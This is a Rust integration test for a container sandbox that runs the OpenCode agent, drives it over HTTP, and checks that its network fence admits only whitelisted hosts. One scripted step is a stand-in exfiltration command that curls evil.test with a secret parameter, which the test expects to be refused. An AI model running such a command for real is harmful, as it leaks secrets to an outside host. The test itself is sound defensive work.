//! A real OpenCode in a container: behind `ocs start --detach`, driven over its HTTP API from the host, and behind `ocs task`,
//! headless, with a scripted model on a port of the host.
//! Needs: what the suite `containers` needs, and OpenCode in `target/agent` (`make agent`).
//! Clauses: P1, W1, R1, N9, B6.

use std::collections::BTreeSet;
use std::fs;
use std::net::Ipv4Addr;

use anyhow::{Context, Result, ensure};
use harness::engines::{Engine, Kind, Sandboxed};
use harness::model::Step;
use harness::project::Decided;
use harness::world::{As, Call};
use serde_json::{Value, json};

const POLICY: &str = "\
sandbox-name: served
llm-endpoints:
  - http://docker.host:4711/v1
http-domain-whitelist:
  - ok.test
";
/// What a person writes so that nobody has to answer the agent.
const ALLOWING: &str = r#"{"permission": {"*": "allow"}}"#;

fn steps() -> Vec<Step> {
    vec![
        Step::Bash("curl -sS http://ok.test/ | tee fetched.txt".to_owned()),
        Step::Bash("curl -sS http://evil.test/collect?secret=1".to_owned()),
        Step::Say("Both were tried.".to_owned()),
    ]
}

/// What such a session must have led to: in the project, in the record, and at the far end.
fn went_as_it_should(engine: &Engine, sandboxed: &Sandboxed<'_>) -> Result<()> {
    let fetched = sandboxed.project.directory().join("fetched.txt");
    assert_eq!(
        fs::read_to_string(engine.world.outside(&fetched))?,
        "hello from ok.test\n"
    );
    let record = sandboxed.project.newest_record()?;
    for decided in [
        Decided::request("docker.host", 4711, "allow"),
        Decided::request("ok.test", 80, "allow"),
        Decided::request("evil.test", 80, "not-whitelisted"),
    ] {
        assert!(
            record.decided().contains(&decided),
            "{decided:?} in {:#?}",
            record.decided()
        );
    }
    let readings = engine.world.readings()?;
    let internet = readings
        .connections
        .iter()
        .filter(|seen| seen.side == "internet");
    let reached: BTreeSet<_> = internet.map(|seen| seen.port).collect();
    assert_eq!(reached, BTreeSet::from([80]));
    sandboxed.ocs(&["audit", "verify"])?.succeeded().map(drop)
}

/// An engine, a model on a port of the host, and a project whose agent is OpenCode.
fn ready(kind: Kind, work: impl FnOnce(&Engine, &Sandboxed<'_>) -> Result<()>) -> Result<()> {
    let engine = Engine::start(kind)?;
    let script = As::Root.home().join("script.json");
    engine
        .world
        .write(As::Root, &script, &serde_json::to_string(&steps())?)?;
    let address = format!("{}:4711", Ipv4Addr::UNSPECIFIED);
    let words = [
        "/home/tools/model-server",
        &address,
        &script.to_string_lossy(),
    ];
    let call = Call::new(&words).for_seconds(600);
    let mut model = engine.world.start(As::Root, call)?;
    model.until(|written| written.contains("listening"))?;
    let sandboxed = engine.project("app", POLICY)?;
    sandboxed.project.write("opencode.jsonc", ALLOWING)?;
    engine.with_opencode(&sandboxed)?;
    work(&engine, &sandboxed)
}

/// A server that runs: where it is, and who may use it.
struct Api<'s> {
    sandboxed: &'s Sandboxed<'s>,
    url: String,
    user: String,
}

impl<'s> Api<'s> {
    fn of(engine: &Engine, sandboxed: &'s Sandboxed<'s>) -> Result<Self> {
        let client = engine.kind.client();
        let started = sandboxed
            .ocs(&["start", "--detach", "--json", "--engine", client])?
            .succeeded()?;
        let facts: Value = serde_json::from_str(&started.stdout)?;
        let url = facts.get("url").and_then(Value::as_str).context("a URL")?;
        let state = engine.kind.who().home().join(".opencode-sandbox");
        let password = state.join(&sandboxed.id).join("opencode-password");
        let password = fs::read_to_string(engine.world.outside(&password))?;
        Ok(Self {
            sandboxed,
            url: url.to_owned(),
            user: format!("opencode:{password}"),
        })
    }

    fn ask(&self, path: &str, body: Option<&Value>) -> Result<String> {
        let (url, body) = (format!("{}{path}", self.url), body.map(ToString::to_string));
        let mut words = vec!["curl", "-sS", "-f", "-m", "150", "-u", &self.user];
        if let Some(body) = &body {
            words.extend(["-H", "Content-Type: application/json", "-d", body]);
        }
        words.push(&url);
        Ok(self.sandboxed.call(Call::new(&words))?.succeeded()?.stdout)
    }
}

fn a_session_is_driven_over_http_and_kept(kind: Kind) -> Result<()> {
    ready(kind, |engine, sandboxed| {
        let api = Api::of(engine, sandboxed)?;
        let session = api.ask("/session", Some(&json!({"title": "headless"})))?;
        let session: Value = serde_json::from_str(&session)?;
        let id = session.get("id").and_then(Value::as_str);
        let id = id.context("a session")?.to_owned();
        let parts = json!({"parts": [{"type": "text", "text": "Do what the script says."}]});
        let said = api.ask(&format!("/session/{id}/message"), Some(&parts))?;
        ensure!(said.contains("Both were tried."), "{said}");

        // On the host's loopback and nowhere else.
        let port = api.url.rsplit(':').next().unwrap_or_default().to_owned();
        let elsewhere = format!("http://192.168.77.2:{port}/");
        let words = ["curl", "-sS", "-m", "5", &elsewhere];
        assert_eq!(sandboxed.call(Call::new(&words))?.code(), 7);
        let status: Value = serde_json::from_str(&sandboxed.ocs(&["status", "--json"])?.stdout)?;
        let of = |pointer: &str| status.pointer(pointer).cloned().unwrap_or_default();
        assert_eq!(
            (of("/state"), of("/engine")),
            (json!("running"), json!(kind.client()))
        );
        ensure!(of("/fence/refused").as_u64() >= Some(1), "{status:#}");
        let listed = sandboxed.ocs(&["list"])?.succeeded()?;
        ensure!(listed.stdout.contains(&sandboxed.id), "{listed}");
        sandboxed.ocs(&["logs"])?.succeeded()?;
        let inspected = engine.inspect(&sandboxed.agent())?.to_string();
        let password = api.user.trim_start_matches("opencode:").trim();
        ensure!(password.len() > 8, "no password");
        sandboxed.ocs(&["stop"])?.succeeded()?;
        assert_eq!(engine.left_in_the_end()?, Vec::<String>::new());
        ensure!(
            inspected.contains("4096"),
            "the health check asks another port"
        );
        went_as_it_should(engine, sandboxed)?;

        // The session is there after a restart: it lies in the state directory.
        let api = Api::of(engine, sandboxed)?;
        ensure!(
            api.ask(&format!("/session/{id}"), None)?
                .contains("headless")
        );
        sandboxed.ocs(&["stop"])?.succeeded()?;
        assert_eq!(engine.left_in_the_end()?, Vec::<String>::new());
        Ok(())
    })
}

#[test]
fn a_session_in_docker_is_driven_over_http_and_kept() -> Result<()> {
    a_session_is_driven_over_http_and_kept(Kind::Docker)
}

#[test]
fn a_session_in_podman_is_driven_over_http_and_kept() -> Result<()> {
    a_session_is_driven_over_http_and_kept(Kind::Podman)
}

#[test]
fn a_session_in_podman_without_root_is_driven_over_http_and_kept() -> Result<()> {
    a_session_is_driven_over_http_and_kept(Kind::Rootless)
}

#[test]
fn a_task_in_docker_is_one_document_and_leaves_nothing() -> Result<()> {
    ready(Kind::Docker, |engine, sandboxed| {
        let words = ["task", "--engine", "docker", "Do what the script says."];
        let finished = sandboxed.ocs(&words)?.succeeded()?;
        let document: Value = serde_json::from_str(&finished.stdout)?;
        ensure!(
            document.to_string().contains("Both were tried."),
            "{document:#}"
        );
        went_as_it_should(engine, sandboxed)?;
        assert_eq!(engine.left()?, Vec::<String>::new());
        Ok(())
    })
}
